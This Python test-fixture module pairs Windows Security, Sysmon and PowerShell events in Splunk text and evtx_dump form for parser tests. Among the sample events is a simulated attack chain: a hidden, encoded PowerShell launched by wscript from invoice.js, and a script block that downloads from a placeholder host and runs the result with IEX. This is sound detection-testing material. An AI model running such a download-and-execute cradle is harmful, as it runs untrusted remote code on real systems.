"""Test data: the same Windows events as classic Splunk ``WinEventLog`` text and as evtx_dump records.

Written for these tests after the layouts of Windows' rendered messages (the
Security auditing templates of Windows 10 / Server 2016 and later, 4625's older
top-level ``Logon Type``) and of Splunk's classic header; the names, hosts and
values are made up.  Each case gives the text and the evtx_dump record the
XML of the same event renders from (``windows_xml_render.render``), and the
fields the text cannot give as the XML does (``DIFFERENT``).
"""

from __future__ import annotations

from typing import Any

HOST = "ws01.corp.local"
WHEN = "11/29/2026 10:31:02 AM"
SYSTEM_TIME = "2026-11-29T10:31:02.000000Z"

SECURITY_HEADER = (
    "LogName=Security\nEventCode={code}\nEventType=0\nComputerName={host}\n"
    "SourceName=Microsoft Windows security auditing.\nType=Information\nRecordNumber=12345\n"
    "Keywords=Audit Success\nTaskCategory={task}\nOpCode=Info\n"
)
SYSMON_HEADER = (
    "LogName=Microsoft-Windows-Sysmon/Operational\nEventCode={code}\nEventType=4\nComputerName={host}\n"
    "User=NOT_TRANSLATED\nSid=S-1-5-18\nSidType=0\nSourceName=Microsoft-Windows-Sysmon\nType=Information\n"
    "RecordNumber=76122\nKeywords=None\nTaskCategory={task}\nOpCode=Info\n"
)


def kv_text(header: str, code: int, task: str, message: str, *, when: str = WHEN, host: str = HOST) -> str:
    """The classic text of one event, as Splunk's ``_raw`` holds it."""
    return f"{when}\n" + header.format(code=code, host=host, task=task) + "Message=" + message


def evtx_record(channel: str, code: int, data: dict[str, Any], *, provider: str, pid: int = 612) -> dict:
    """The evtx_dump record of the same event (its XML is rendered from it)."""
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": code,
            "TimeCreated": {"#attributes": {"SystemTime": SYSTEM_TIME}},
            "EventRecordID": 12345,
            "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": 700}},
            "Channel": channel,
            "Computer": HOST,
        },
        "EventData": data,
    }}


SECURITY = "Microsoft-Windows-Security-Auditing"
SYSMON = "Microsoft-Windows-Sysmon"

CASES: dict[str, tuple[str, dict, frozenset[str]]] = {}
"""name -> (classic text, evtx_dump record, fields the two may give differently)."""

CASES["4688"] = (
    kv_text(SECURITY_HEADER, 4688, "Process Creation",
            "A new process has been created.\n\n"
            "Creator Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tWS01$\n\tAccount Domain:\t\tCORP\n"
            "\tLogon ID:\t\t0x3E7\n\n"
            "Target Subject:\n\tSecurity ID:\t\tS-1-5-21-11-22-33-1104\n\tAccount Name:\t\talice\n"
            "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x1F3A2\n\n"
            "Process Information:\n\tNew Process ID:\t\t0x1a2c\n"
            "\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n\tToken Elevation Type:\t%%1936\n"
            "\tMandatory Label:\t\tS-1-16-12288\n\tCreator Process ID:\t0x2d0\n"
            "\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"
            "\tProcess Command Line:\tcmd.exe /c whoami /all\n\n"
            "Token Elevation Type indicates the type of token that was assigned to the new process in "
            "accordance with User Account Control policy.\n\n"
            "Type 1 is a full token with no privileges removed or groups disabled."),
    evtx_record("Security", 4688, {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7", "NewProcessId": "0x1a2c", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "TokenElevationType": "%%1936", "ProcessId": "0x2d0", "CommandLine": "cmd.exe /c whoami /all",
        "TargetUserSid": "S-1-5-21-11-22-33-1104", "TargetUserName": "alice", "TargetDomainName": "CORP",
        "TargetLogonId": "0x1f3a2", "ParentProcessName": "C:\\Windows\\explorer.exe",
        "MandatoryLabel": "S-1-16-12288"}, provider=SECURITY, pid=4),
    frozenset(),
)

CASES["4688-no-target"] = (
    kv_text(SECURITY_HEADER, 4688, "Process Creation",
            "A new process has been created.\n\n"
            "Creator Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tWS01$\n\tAccount Domain:\t\tCORP\n"
            "\tLogon ID:\t\t0x3E7\n\n"
            "Target Subject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n"
            "\tLogon ID:\t\t0x0\n\n"
            "Process Information:\n\tNew Process ID:\t\t0x44\n\tNew Process Name:\tC:\\Windows\\System32\\svchost.exe\n"
            "\tToken Elevation Type:\t%%1936\n\tMandatory Label:\t\tS-1-16-16384\n\tCreator Process ID:\t0x2d0\n"
            "\tCreator Process Name:\tC:\\Windows\\System32\\services.exe\n"
            "\tProcess Command Line:\tC:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    evtx_record("Security", 4688, {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7", "NewProcessId": "0x44", "NewProcessName": "C:\\Windows\\System32\\svchost.exe",
        "TokenElevationType": "%%1936", "ProcessId": "0x2d0",
        "CommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "ParentProcessName": "C:\\Windows\\System32\\services.exe", "MandatoryLabel": "S-1-16-16384"},
        provider=SECURITY, pid=4),
    frozenset(),
)

CASES["4624"] = (
    kv_text(SECURITY_HEADER, 4624, "Logon",
            "An account was successfully logged on.\n\n"
            "Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tWS01$\n\tAccount Domain:\t\tCORP\n"
            "\tLogon ID:\t\t0x3E7\n\n"
            "Logon Information:\n\tLogon Type:\t\t10\n\tRestricted Admin Mode:\tNo\n\tVirtual Account:\t\tNo\n"
            "\tElevated Token:\t\tYes\n\n"
            "Impersonation Level:\t\tImpersonation\n\n"
            "New Logon:\n\tSecurity ID:\t\tS-1-5-21-11-22-33-1104\n\tAccount Name:\t\talice\n"
            "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x5A2F1\n\tLinked Logon ID:\t\t0x0\n"
            "\tNetwork Account Name:\t-\n\tNetwork Account Domain:\t-\n"
            "\tLogon GUID:\t\t{00000000-0000-0000-0000-000000000000}\n\n"
            "Process Information:\n\tProcess ID:\t\t0x3c4\n\tProcess Name:\t\tC:\\Windows\\System32\\svchost.exe\n\n"
            "Network Information:\n\tWorkstation Name:\tJUMP02\n\tSource Network Address:\t10.20.30.40\n"
            "\tSource Port:\t\t0\n\n"
            "Detailed Authentication Information:\n\tLogon Process:\t\tUser32 \n"
            "\tAuthentication Package:\tNegotiate\n\tTransited Services:\t-\n\tPackage Name (NTLM only):\t-\n"
            "\tKey Length:\t\t0\n\n"
            "This event is generated when a logon session is created. It is generated on the computer that "
            "was accessed."),
    evtx_record("Security", 4624, {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-11-22-33-1104", "TargetUserName": "alice",
        "TargetDomainName": "CORP", "TargetLogonId": "0x5a2f1", "LogonType": "10",
        "LogonProcessName": "User32 ", "AuthenticationPackageName": "Negotiate", "WorkstationName": "JUMP02",
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TransmittedServices": "-",
        "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x3c4",
        "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": "10.20.30.40", "IpPort": "0",
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "%%1843", "TargetOutboundUserName": "-",
        "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
        "ElevatedToken": "%%1842"}, provider=SECURITY, pid=652),
    frozenset(),
)

CASES["4625"] = (
    kv_text(SECURITY_HEADER.replace("Audit Success", "Audit Failure"), 4625, "Logon",
            "An account failed to log on.\n\n"
            "Subject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n"
            "\tLogon ID:\t\t0x0\n\n"
            "Logon Type:\t\t\t3\n\n"
            "Account For Which Logon Failed:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\tadministrator\n"
            "\tAccount Domain:\t\tCORP\n\n"
            "Failure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n"
            "\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t0xC000006A\n\n"
            "Process Information:\n\tCaller Process ID:\t0x0\n\tCaller Process Name:\t-\n\n"
            "Network Information:\n\tWorkstation Name:\tKALI\n\tSource Network Address:\t203.0.113.9\n"
            "\tSource Port:\t\t51515\n\n"
            "Detailed Authentication Information:\n\tLogon Process:\t\tNtLmSsp \n"
            "\tAuthentication Package:\tNTLM\n\tTransited Services:\t-\n\tPackage Name (NTLM only):\t-\n"
            "\tKey Length:\t\t0"),
    evtx_record("Security", 4625, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserSid": "S-1-0-0", "TargetUserName": "administrator", "TargetDomainName": "CORP",
        "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "3",
        "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI",
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0",
        "ProcessName": "-", "IpAddress": "203.0.113.9", "IpPort": "51515"}, provider=SECURITY, pid=652),
    # the text has the rendered reason, the XML its message id (%%2313)
    frozenset({"winlog.logon.failure.reason"}),
)

CASES["4672"] = (
    kv_text(SECURITY_HEADER, 4672, "Special Logon",
            "Special privileges assigned to new logon.\n\n"
            "Subject:\n\tSecurity ID:\t\tS-1-5-21-11-22-33-500\n\tAccount Name:\t\tadmin\n"
            "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x5A2F1\n\n"
            "Privileges:\t\tSeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n"
            "\t\t\tSeDebugPrivilege"),
    evtx_record("Security", 4672, {
        "SubjectUserSid": "S-1-5-21-11-22-33-500", "SubjectUserName": "admin", "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x5a2f1",
        "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n"
                         "\t\t\tSeDebugPrivilege"}, provider=SECURITY, pid=652),
    frozenset(),
)

SYSMON_1_DATA = {
    "RuleName": "-", "UtcTime": "2026-11-29 10:31:02.123", "ProcessGuid": "{a95c9ede-899e-60d4-e391-2d0300000000}",
    "ProcessId": "6276", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)", "Description": "Windows PowerShell",
    "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
    "OriginalFileName": "PowerShell.EXE",
    "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "CurrentDirectory": "C:\\Users\\alice\\", "User": "CORP\\alice",
    "LogonGuid": "{a95c9ede-0000-0000-0000-000000000000}", "LogonId": "0x5A2F1", "TerminalSessionId": "1",
    "IntegrityLevel": "Medium", "Hashes": "SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9",
    "ParentProcessGuid": "{a95c9ede-0000-0000-1111-2d0300000000}", "ParentProcessId": "4400",
    "ParentImage": "C:\\Windows\\System32\\wscript.exe",
    "ParentCommandLine": "\"C:\\Windows\\System32\\wscript.exe\" C:\\Users\\alice\\invoice.js",
    "ParentUser": "CORP\\alice",
}
_SYSMON3 = {
    "RuleName": "technique_id=T1036,technique_name=Masquerading", "UtcTime": "2026-11-29 10:31:03.487",
    "ProcessGuid": "{a95c9ede-899e-60d4-e391-2d0300000000}", "ProcessId": "6276",
    "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "User": "CORP\\alice",
    "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.0.0.253",
    "SourceHostname": "ws01.corp.local", "SourcePort": "52731", "SourcePortName": "-",
    "DestinationIsIpv6": "false", "DestinationIp": "198.51.100.7", "DestinationHostname": "-",
    "DestinationPort": "443", "DestinationPortName": "https",
}
_SYSMON11 = {
    "RuleName": "-", "UtcTime": "2026-11-29 10:31:04.001", "ProcessGuid": "{a95c9ede-899e-60d4-e391-2d0300000000}",
    "ProcessId": "6276", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "TargetFilename": "C:\\Users\\alice\\AppData\\Local\\Temp\\img.png",
    "CreationUtcTime": "2026-11-29 10:31:04.001", "User": "CORP\\alice",
}
_SYSMON22 = {
    "RuleName": "-", "UtcTime": "2026-11-29 10:31:02.900", "ProcessGuid": "{a95c9ede-899e-60d4-e391-2d0300000000}",
    "ProcessId": "6276", "QueryName": "cdn-img-delivery.example", "QueryStatus": "0",
    "QueryResults": "type:  5 edge.example;::ffff:198.51.100.7;",
    "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "User": "CORP\\alice",
}


def _sysmon_case(code: int, task: str, title: str, data: dict[str, str]) -> tuple[str, dict, frozenset[str]]:
    message = title + "\n" + "\n".join(f"{name}: {value}" for name, value in data.items())
    return (kv_text(SYSMON_HEADER, code, task, message),
            evtx_record("Microsoft-Windows-Sysmon/Operational", code, dict(data), provider=SYSMON, pid=3012),
            frozenset())


CASES["sysmon-1"] = _sysmon_case(1, "Process Create (rule: ProcessCreate)", "Process Create:", SYSMON_1_DATA)
CASES["sysmon-3"] = _sysmon_case(3, "Network connection detected (rule: NetworkConnect)",
                                 "Network connection detected:", _SYSMON3)
CASES["sysmon-11"] = _sysmon_case(11, "File created (rule: FileCreate)", "File created:", _SYSMON11)
CASES["sysmon-22"] = _sysmon_case(22, "Dns query (rule: DnsQuery)", "Dns query:", _SYSMON22)

_SCRIPT = "$c = New-Object Net.WebClient\n$c.DownloadString('http://cdn-img-delivery.example/a.png') | IEX"
CASES["4104"] = (
    kv_text("LogName=Microsoft-Windows-PowerShell/Operational\nEventCode={code}\nEventType=3\nComputerName={host}\n"
            "User=CORP\\alice\nSid=S-1-5-21-11-22-33-1104\nSidType=1\nSourceName=Microsoft-Windows-PowerShell\n"
            "Type=Warning\nRecordNumber=991\nKeywords=None\nTaskCategory={task}\nOpCode=On create calls\n",
            4104, "Execute a Remote Command",
            f"Creating Scriptblock text (1 of 1):\n{_SCRIPT}\n\nScriptBlock ID: 7c3b7e43-8a1e-4a4f-9f5e-6d1f5b3c2a10\n"
            "Path: C:\\Users\\alice\\run.ps1"),
    evtx_record("Microsoft-Windows-PowerShell/Operational", 4104, {
        "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": _SCRIPT,
        "ScriptBlockId": "7c3b7e43-8a1e-4a4f-9f5e-6d1f5b3c2a10", "Path": "C:\\Users\\alice\\run.ps1"},
        provider="Microsoft-Windows-PowerShell", pid=6276),
    # the writer's process id is System.Execution, which the text does not carry
    frozenset({"process.pid"}),
)
